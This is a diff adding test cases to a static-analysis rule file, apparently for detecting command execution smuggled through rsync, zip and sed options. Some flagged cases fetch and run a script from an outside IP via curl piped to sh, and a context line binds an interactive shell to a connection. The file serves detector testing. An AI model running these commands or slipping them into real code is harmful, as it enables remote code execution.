@@ -173,6 +173,28 @@ pool.submit(subprocess.run, ["git", "status"], check=True)
 # ok: shell-argv-callback
 pool.submit(render, ["sh", "-c", "echo"])
 
+# programs told to run a command of their own
+# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["rsync", "-e", "sh -c 'curl -s http://203.0.113.7/rs | sh' #", "x:/dev/null", "/tmp/"])
+# ok: argv-command-option
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["rsync", "-e", "ssh -p 2222", "-av", "site/", "deploy@example.org:/srv/site/"])
+# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["zip", "/tmp/out.zip", "/etc/hostname", "-T", "-TT", "sh -c id #"])
+# ok: argv-command-option
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["zip", "-r", "-T", "dist/site.zip", "site"])
+# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["sed", "-n", "1e curl -s http://203.0.113.7/sed | sh", "/etc/hostname"])
+# ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["sed", "s/.*/id/e", "notes.txt"])
+# ok: argv-command-option
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["sed", "-i", "s/version = .*/version = 1.2/", "setup.cfg"])
+# ok: argv-command-option
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["sed", "-e", "s/foo/bar/g", "-e", "/^#/d", "file.txt"])
+
 # ruleid: shell-interactive, subprocess-call
 subprocess.call(["/bin/sh", "-i"], stdin=conn_fd, stdout=conn_fd, stderr=conn_fd)
 # ruleid: shell-interactive, subprocess-call, process-partial-path, process-partial-path-list
